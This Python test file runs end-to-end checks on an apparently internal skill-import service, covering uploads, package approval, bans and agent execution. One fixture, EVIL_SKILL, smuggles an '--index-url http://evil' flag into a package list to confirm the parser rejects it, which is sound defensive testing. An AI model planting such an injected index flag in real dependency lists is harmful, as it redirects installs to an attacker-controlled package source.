"""Imports end to end in moto: S3 upload or API → SQS → state machine → skill record."""

from __future__ import annotations

import json
import time

from chalice.test import Client

REQUESTS_SKILL = b"""---
name: Fetch Page
description: Fetch a web page and return its title.
packages:
  - requests
---
# Fetch page

```python
def execute(url: str) -> str:
    import requests
    return requests.get(url, timeout=5).text[:100]
```
"""

EVIL_SKILL = b"""---
name: Sneaky Numbers
description: Numbers from somewhere else.
packages: ["numpy==1.26.4", "--index-url http://evil"]
---
```python
def execute():
    return 1
```
"""


def _import_ids(stack) -> list[str]:
    table = stack.settings.imports_table
    import boto3

    items = boto3.resource("dynamodb", region_name="us-east-1").Table(table).scan()["Items"]
    return sorted(i["import_id"] for i in items if i["pk"].startswith("import#"))


def _approve(client, headers, package: str, version: str = "", maturity: str = "INTERN") -> dict:
    response = client.http.post(
        "/api/packages/approve",
        body=json.dumps({"package_name": package, "version": version, "min_maturity": maturity}),
        headers={**headers, "Content-Type": "application/json"},
    )
    assert response.status_code == 201, response.body
    return json.loads(response.body)


def test_s3_upload_reaches_ready_with_hash_pinned_closure(stack, admin_headers):
    with Client(stack.app) as client:
        _approve(client, admin_headers, "requests")
    stack.map_inbox("team-a/", "team:team-a")
    stack.s3.put_object(Bucket=stack.settings.inbox_bucket, Key="team-a/fetch-page/SKILL.md", Body=REQUESTS_SKILL)
    assert stack.deliver_inbox_events() >= 1  # moto also queues an s3:TestEvent, which is skipped
    (import_id,) = _import_ids(stack)
    record = stack.wait_for_import(import_id)
    assert record["status"] == "SUCCEEDED", record
    # the Finalize task writes the record just before the execution itself ends
    for _ in range(100):
        if stack.execution_status(import_id) != "RUNNING":
            break
        time.sleep(0.05)
    assert stack.execution_status(import_id) == "SUCCEEDED"

    with Client(stack.app) as client:
        response = client.http.get("/api/skills/fetch-page", headers=admin_headers)
    assert response.status_code == 200
    skill = json.loads(response.body)
    assert skill["status"] == "ready"
    assert skill["requirements"] == ["requests"]
    pins = {p["name"]: p for p in skill["pins"]}
    assert {"requests", "urllib3", "idna", "certifi", "charset-normalizer"} <= set(pins)
    assert all(len(p["sha256"]) == 64 for p in pins.values())
    assert pins["requests"]["direct"] is True and pins["urllib3"]["direct"] is False
    assert all(p["filename"].endswith(".whl") for p in pins.values())
    assert skill["steps"]["parse"]["status"] == "succeeded"
    assert skill["steps"]["resolve"]["pins"] == len(pins)
    # each step set its own entry of the map, leaving the others as they were
    assert {"parse", "resolve", "check", "scan", "install", "finalize"} <= set(skill["steps"])
    assert all(entry["status"] in ("succeeded", "passed") for entry in skill["steps"].values()), skill["steps"]


def test_api_upload_returns_202_and_the_import_can_be_followed(stack, admin_headers):
    with Client(stack.app) as client:
        _approve(client, admin_headers, "requests")
        response = client.http.post(
            "/api/skills", body=REQUESTS_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"}
        )
        assert response.status_code == 202, response.body
        accepted = json.loads(response.body)
        assert accepted["skill_id"] == "fetch-page" and accepted["status"] == "importing"
        assert len(accepted["version"]) == 64
        stack.wait_for_import(accepted["import_id"])
        followed = json.loads(client.http.get(f"/api/imports/{accepted['import_id']}", headers=admin_headers).body)
        assert followed["status"] == "SUCCEEDED"
        assert followed["skill_id"] == "fetch-page"
        skill = json.loads(client.http.get("/api/skills/fetch-page", headers=admin_headers).body)
        assert skill["status"] == "ready" and skill["version"] == accepted["version"]
        listing = json.loads(client.http.get("/api/skills", headers=admin_headers).body)
        assert [s["skill_id"] for s in listing["skills"]] == ["fetch-page"]
        trail = json.loads(client.http.get("/api/packages/audit?skill_id=fetch-page", headers=admin_headers).body)["events"]
        steps = [(e["action"], e["detail"].get("step"), e["outcome"]) for e in reversed(trail)]
        assert steps == [
            ("skill.owner", None, "ok"),  # the first publish of a new skill id claims it
            ("skill.import", None, "started"),
            ("import.step", "parse", "succeeded"),
            ("import.step", "resolve", "succeeded"),
            ("import.step", "check", "succeeded"),
            ("import.step", "scan", "succeeded"),
            ("import.step", "install", "succeeded"),
            ("import.step", "finalize", "ready"),
        ]
        assert trail[-1]["actor"] == "admin:bootstrap admin" and trail[0]["actor"] == "system"


def test_invalid_requirement_fails_the_import_naming_the_line(stack, admin_headers):
    stack.map_inbox("evil/")
    stack.s3.put_object(Bucket=stack.settings.inbox_bucket, Key="evil/SKILL.md", Body=EVIL_SKILL)
    stack.deliver_inbox_events()
    (import_id,) = _import_ids(stack)
    record = stack.wait_for_import(import_id)
    assert record["status"] == "FAILED"
    assert record["failed_step"] == "parse"
    assert "--index-url http://evil" in record["reason"]
    with Client(stack.app) as client:
        skill = json.loads(client.http.get("/api/skills/sneaky-numbers", headers=admin_headers).body)
    assert skill["status"] == "failed"
    assert skill["error"]["step"] == "parse"
    assert any("--index-url http://evil" in p for p in skill["error"]["problems"])


def test_api_rejects_invalid_skill_with_every_problem(stack, admin_headers):
    with Client(stack.app) as client:
        response = client.http.post("/api/skills", body=EVIL_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"})
    assert response.status_code == 400
    body = json.loads(response.body)
    assert body["error"] == "invalid_skill"
    assert any("--index-url http://evil" in p for p in body["problems"])


def test_duplicate_upload_event_starts_one_import(stack):
    stack.s3.put_object(Bucket=stack.settings.inbox_bucket, Key="dup/SKILL.md", Body=EVIL_SKILL)
    # S3 delivers at least once: replay the very same notification
    message = stack.sqs.receive_message(QueueUrl=stack.settings.inbox_queue_url, MaxNumberOfMessages=1)["Messages"][0]
    stack.sqs.send_message(QueueUrl=stack.settings.inbox_queue_url, MessageBody=message["Body"])
    stack.sqs.change_message_visibility(
        QueueUrl=stack.settings.inbox_queue_url, ReceiptHandle=message["ReceiptHandle"], VisibilityTimeout=0
    )
    stack.deliver_inbox_events()
    assert len(_import_ids(stack)) == 1


def test_unauthenticated_and_unknown_keys_get_401(stack):
    with Client(stack.app) as client:
        assert client.http.get("/api/skills").status_code == 401
        response = client.http.get("/api/skills", headers={"Authorization": "Bearer shk_nope_nope"})
        assert response.status_code == 401
        assert json.loads(response.body)["error"] == "unauthorized"
        assert client.http.get("/api/health").status_code == 200


def test_unapproved_package_waits_and_resumes_after_approval(stack, admin_headers):
    with Client(stack.app) as client:
        accepted = json.loads(
            client.http.post("/api/skills", body=REQUESTS_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"}).body
        )
        record = stack.wait_for_import(accepted["import_id"])
        assert record["status"] == "PENDING_APPROVAL"
        skill = json.loads(client.http.get("/api/skills/fetch-page", headers=admin_headers).body)
        assert skill["status"] == "pending_approval"
        assert skill["waiting_for"] == ["requests"]
        requests = json.loads(client.http.get("/api/packages/requests?status=pending", headers=admin_headers).body)["requests"]
        assert [r["package"] for r in requests] == ["requests"]
        assert requests[0]["skill_id"] == "fetch-page"

        approval = _approve(client, admin_headers, "requests")  # no re-upload: the import resumes by itself
        assert approval["resumed_imports"] == [accepted["import_id"]]
        record = stack.wait_for_import(accepted["import_id"])
        assert record["status"] == "SUCCEEDED", record
        skill = json.loads(client.http.get("/api/skills/fetch-page", headers=admin_headers).body)
        assert skill["status"] == "ready"
        assert skill["image_tag"].startswith("skillharbor/env:")
        assert stack.engine.builds and {p.name for p in stack.engine.builds[0]} >= {"requests", "urllib3"}


def test_a_rejected_request_blocks_the_waiting_import_and_its_reimport(stack, admin_headers):
    def post(path, body):
        return client.http.post(path, body=json.dumps(body), headers={**admin_headers, "Content-Type": "application/json"})

    with Client(stack.app) as client:
        upload = {"body": REQUESTS_SKILL, "headers": {**admin_headers, "Content-Type": "text/markdown"}}
        accepted = json.loads(client.http.post("/api/skills", **upload).body)
        assert stack.wait_for_import(accepted["import_id"])["status"] == "PENDING_APPROVAL"
        (request,) = json.loads(client.http.get("/api/packages/requests?status=pending", headers=admin_headers).body)["requests"]
        rejected = json.loads(post(f"/api/packages/requests/{request['request_id']}/reject", {"reason": "use urllib"}).body)
        assert rejected["blocked_imports"] == [accepted["import_id"]]
        record = stack.wait_for_import(accepted["import_id"])
        assert record["status"] == "FAILED" and record["failed_step"] == "check" and "use urllib" in record["reason"]
        skill = json.loads(client.http.get("/api/skills/fetch-page", headers=admin_headers).body)
        assert skill["status"] == "blocked" and "was rejected by admin:bootstrap admin: use urllib" in skill["error"]["reason"]
        again = json.loads(client.http.post("/api/skills", **upload).body)  # the same version: no waiting for ever
        record = stack.wait_for_import(again["import_id"])
        assert record["status"] == "FAILED" and record["failed_step"] == "check" and "use urllib" in record["reason"]


def test_banned_transitive_package_blocks_the_skill(stack, admin_headers):
    with Client(stack.app) as client:
        _approve(client, admin_headers, "requests")
        response = client.http.post(
            "/api/packages/ban",
            body=json.dumps({"package_name": "urllib3", "reason": "incident 42: compromised release"}),
            headers={**admin_headers, "Content-Type": "application/json"},
        )
        assert response.status_code == 201
        accepted = json.loads(
            client.http.post("/api/skills", body=REQUESTS_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"}).body
        )
        record = stack.wait_for_import(accepted["import_id"])
        assert record["status"] == "FAILED" and record["failed_step"] == "check"
        assert "incident 42" in record["reason"]
        skill = json.loads(client.http.get("/api/skills/fetch-page", headers=admin_headers).body)
        assert skill["status"] == "blocked"


def test_ban_of_a_transitive_package_stops_executions_of_ready_skills(stack, admin_headers):
    with Client(stack.app) as client:
        _approve(client, admin_headers, "requests")
        accepted = json.loads(
            client.http.post("/api/skills", body=REQUESTS_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"}).body
        )
        assert stack.wait_for_import(accepted["import_id"])["status"] == "SUCCEEDED"
        agent = json.loads(client.http.post("/api/agents", body=json.dumps({"agent_id": "bot-9", "maturity": "AUTONOMOUS"}),
                                            headers={**admin_headers, "Content-Type": "application/json"}).body)  # fmt: skip
        client.http.post("/api/packages/ban", body=json.dumps({"package_name": "urllib3", "reason": "incident 7"}),
                         headers={**admin_headers, "Content-Type": "application/json"})  # fmt: skip
        response = client.http.post("/api/skills/fetch-page/execute", body=json.dumps({"inputs": {"url": "x"}}),
                                    headers={"Authorization": f"Bearer {agent['api_key']}", "Content-Type": "application/json"})  # fmt: skip
        assert response.status_code == 403
        body = json.loads(response.body)
        assert any(p.startswith("urllib3") and "incident 7" in p for p in body["problems"])


def test_a_ban_after_runs_refuses_the_very_next_run(stack, admin_headers):
    """The skill record and the decisions of earlier runs are cached: a ban made here must still apply at once."""
    from chalicelib.api.services import execution_service
    from chalicelib.runner.spec import RunResult, RunStatus

    with Client(stack.app) as client:
        _approve(client, admin_headers, "requests")
        accepted = json.loads(
            client.http.post("/api/skills", body=REQUESTS_SKILL, headers={**admin_headers, "Content-Type": "text/markdown"}).body
        )
        assert stack.wait_for_import(accepted["import_id"])["status"] == "SUCCEEDED"
        agent = json.loads(client.http.post("/api/agents", body=json.dumps({"agent_id": "bot-10", "maturity": "AUTONOMOUS"}),
                                            headers={**admin_headers, "Content-Type": "application/json"}).body)  # fmt: skip
        headers = {"Authorization": f"Bearer {agent['api_key']}", "Content-Type": "application/json"}
        service = execution_service()
        original = service.run
        service.run = lambda job, **kwargs: RunResult(status=RunStatus.OK, output="t")  # the run itself is not the point
        try:
            for _ in range(2):
                ok = client.http.post("/api/skills/fetch-page/execute", body=json.dumps({"inputs": {"url": "x"}}), headers=headers)
                assert ok.status_code == 200, ok.body
            client.http.post("/api/packages/ban", body=json.dumps({"package_name": "urllib3", "reason": "incident 8"}),
                             headers={**admin_headers, "Content-Type": "application/json"})  # fmt: skip
            response = client.http.post("/api/skills/fetch-page/execute", body=json.dumps({"inputs": {"url": "x"}}), headers=headers)
        finally:
            service.run = original
        assert response.status_code == 403
        assert any(p.startswith("urllib3") and "incident 8" in p for p in json.loads(response.body)["problems"])
